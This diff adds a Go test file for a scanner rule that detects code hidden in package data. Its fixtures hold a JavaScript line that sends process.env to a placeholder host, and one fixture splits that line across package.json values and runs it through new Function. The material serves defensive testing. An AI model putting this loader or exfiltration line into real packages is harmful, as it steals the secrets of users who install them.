@@ -1,0 +1,26 @@
+package obf
+
+import (
+	"encoding/base64"
+	"testing"
+
+	"github.com/depfence/depfence/internal/finding"
+	rt "github.com/depfence/depfence/internal/rules/rulestest"
+)
+
+func TestCodeInData(t *testing.T) {
+	code := base64.StdEncoding.EncodeToString([]byte(`var h=require("https");h.get("https://c.example.invalid/x?e="+JSON.stringify(process.env))`))
+	half := len(code) / 2
+	rt.Check(t, CodeInData{}, []rt.Case{
+		// split over one object's values, loaded and run
+		{"split_in_manifest_run", map[string]string{
+			"package.json": `{"name":"x","version":"1.0.0","config":{"icu":{"a":"` + code[:half] + `","b":"` + code[half:] + `"}}}`,
+			"index.js":     `const p = require("./package.json"); new Function("require", Buffer.from(p.config.icu.a + p.config.icu.b, "base64").toString())(require)`}, finding.SeverityCritical},
+		// in a data file nothing runs
+		{"in_data_file", map[string]string{"data/theme.json": `{"config":"` + code + `"}`, "index.js": `module.exports = 1`}, finding.SeverityHigh},
+		// a font, an image and a plain token are data
+		{"binary_blobs", map[string]string{"assets.json": `{"font":"d09GMgABAAAAAAJUAA0AAAAABVgAAAH/AAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAP0ZGVE0cGh4GYACCAhEICoNAgmQLEAABNgIkAxoEIAWDcgcuG8sEyB6FcZJRUxrC8f9XS7/","token":"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0"}`}, finding.SeverityNone},
+		// a translation file quoting code in plain text
+		{"plain_text_code", map[string]string{"locales/en.json": `{"help":"Add require(\"x\") to your config and call fetch(url) yourself."}`}, finding.SeverityNone},
+	})
+}
